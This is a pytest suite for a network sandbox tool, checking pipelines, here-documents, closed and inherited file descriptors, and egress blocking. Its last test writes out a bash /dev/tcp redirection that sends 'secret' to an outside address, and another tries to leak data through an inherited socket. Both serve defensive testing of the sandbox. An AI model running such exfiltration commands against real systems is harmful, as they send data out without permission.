"""Standard input, output and error are the command's own descriptors: any shape that a shell gives them works."""

from __future__ import annotations

import hashlib
import os
import shlex
import signal
import subprocess
from typing import Any

import pytest

pytestmark = pytest.mark.usefixtures("user_namespaces")


@pytest.fixture
def shell(netsandbox: Any) -> Any:
    """shell(script) runs a bash OUTSIDE, where $nsb stands for `netsandbox run --`; a finished process."""
    home = netsandbox.home()
    prefix = f'nsb() {{ {shlex.quote(home.identity.python)} -m netsandbox run -- "$@"; }}\n'

    def run(script: str, data: bytes = b"") -> subprocess.CompletedProcess[bytes]:
        return subprocess.run(
            ["bash", "-c", prefix + script], input=data, capture_output=True, check=False, timeout=60,
            env=home.environment(None), cwd=home.work, **home.identity.popen,
        )  # fmt: skip

    return run


@pytest.mark.attack(120)
@pytest.mark.ordinary_user
def test_a_hundred_three_stage_pipelines_inside_all_finish(netsandbox: Any) -> None:
    script = """
    n=0
    while [ $n -lt 100 ]; do
        n=$((n + 1))
        [ "$(seq 1 50 | grep 7 | wc -l)" = 5 ] || { echo "pipeline $n is wrong"; exit 1; }
    done
    echo "$n pipelines"
    """
    assert netsandbox("run", "--", "sh", "-c", script, timeout=60).stdout == "100 pipelines\n"


def test_sessions_are_stages_of_a_pipeline(shell: Any) -> None:
    run = shell("seq 1 1000 | nsb grep 7 | nsb sort -rn | nsb head -2; echo ${PIPESTATUS[@]}")
    assert run.stdout == b"997\n987\n0 0 0 0\n"
    assert run.stderr == b""


def test_here_documents_and_substitutions(shell: Any) -> None:
    run = shell("nsb cat <<END\none\ntwo $(nsb echo inner)\nEND\nnsb cat <(nsb echo by name) <<< ignored\n")
    assert run.stdout.startswith(b"one\ntwo inner\n")
    # A process substitution is an inherited descriptor (/dev/fd/63), and those are closed: attack 132.
    assert b"by name" not in run.stdout


def test_a_closed_reader_ends_the_command_by_sigpipe(shell: Any) -> None:
    run = shell("nsb yes | head -1; echo ${PIPESTATUS[@]}")
    assert run.stdout == b"y\n%d 0\n" % (128 + signal.SIGPIPE)
    assert run.stderr == b""


@pytest.mark.parametrize(
    ("redirection", "expected"),
    [("<&-", b"out\n"), (">&-", b""), ("2>&-", b"out\n"), ("<&- >&- 2>&-", b"")],
)
def test_closed_standard_descriptors(shell: Any, redirection: str, expected: bytes) -> None:
    """No file of ours may land on a free 0, 1 or 2, and the status is still the command's."""
    script = f"nsb sh -c 'echo out; echo err >&2; read line; exit 5' {redirection}; echo status=$?"
    assert shell(script).stdout == expected + b"status=5\n"


def test_nothing_of_ours_is_behind_a_closed_descriptor(shell: Any) -> None:
    script = "nsb sh -c 'ls -l /proc/self/fd/ > listing' <&- >&- 2>&-; cat listing"
    listed = shell(script).stdout.decode().splitlines()[1:]
    places = [line.rpartition("-> ")[2] for line in listed]
    assert all(place.endswith(("/listing", "/fd", "/dev/null")) for place in places), places


@pytest.mark.ordinary_user
def test_much_input_and_output_pass_byte_for_byte(netsandbox: Any) -> None:
    data = os.urandom(1 << 20) * 32
    run = netsandbox("run", "--", "sh", "-c", "cat; sha256sum /dev/null >&2", input=data)
    assert hashlib.sha256(run.stdout_bytes).digest() == hashlib.sha256(data).digest()
    assert len(run.stderr_bytes.splitlines()) == 1


def test_a_command_that_reads_nothing_leaves_the_rest_to_the_next(shell: Any) -> None:
    """The descriptor is shared, not copied: `read` takes its line and no more."""
    run = shell("{ nsb sh -c 'read line; echo inside $line'; read line; echo outside $line; }", b"one\ntwo\n")
    assert run.stdout == b"inside one\noutside two\n"


def test_output_appends_to_a_file_in_order(shell: Any) -> None:
    run = shell("{ echo a; nsb echo b; echo c; } >> log; cat log")
    assert run.stdout == b"a\nb\nc\n"


@pytest.mark.attack(205)
def test_the_readers_end_comes_with_the_commands(shell: Any) -> None:
    """A background process that holds the pipe is ended with the session, so `$(…)` does not wait for it."""
    run = shell("time=$SECONDS; out=$(nsb sh -c 'sleep 30 & echo done'); echo $out $((SECONDS - time < 5))")
    assert run.stdout == b"done 1\n"


@pytest.mark.attack(132)
@pytest.mark.ordinary_user
def test_inherited_descriptors_are_closed(netsandbox: Any, canary: Any) -> None:
    """A connected socket, a listening one, a directory and a file, at 3, 9, 255 and 1000."""
    server = canary.tcp()
    home = netsandbox.home()
    outer = """
import os, resource, socket, sys
hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, 4096), hard))
connected = socket.create_connection((sys.argv[1], int(sys.argv[2])))
listening = socket.create_server(("127.0.0.1", 0))
for source, number in ((connected.detach(), 1000), (listening.detach(), 255), (os.open("/", os.O_RDONLY), 9)):
    os.dup2(source, number, inheritable=True)
    os.set_inheritable(source, True)
os.execv(sys.executable, [sys.executable, "-m", "netsandbox", "run", "--", *sys.argv[3:]])
"""
    probe = "import os; print(sorted(os.listdir('/proc/self/fd'), key=int)); os.write(1000, b'secret')"
    python = home.identity.python
    run = subprocess.run(
        [python, "-c", outer, server.host, str(server.port), python, "-c", probe], capture_output=True, check=False,
        timeout=30, env=home.environment(None), cwd=home.work, stdin=subprocess.DEVNULL, **home.identity.popen,
    )  # fmt: skip
    assert run.stdout == b"['0', '1', '2', '3']\n"  # 3 is the listing itself
    assert b"Bad file descriptor" in run.stderr
    assert server.wait(1)
    assert server.received == b""


@pytest.mark.attack(132)
def test_bash_redirections_to_dev_tcp_are_judged_like_any_connection(netsandbox: Any, canary: Any) -> None:
    server = canary.tcp()
    script = (
        f"exec 3<>/dev/tcp/192.0.2.1/80; echo secret >&3; exec 4<>/dev/tcp/127.0.0.1/{server.port}; echo secret >&4"
    )
    run = netsandbox("run", "--", "bash", "-c", script)
    assert run.returncode != 0
    assert server.accepts == 0
    assert run.events("egress", verdict="deny", address="192.0.2.1") or run.events("egress", host="192.0.2.1")
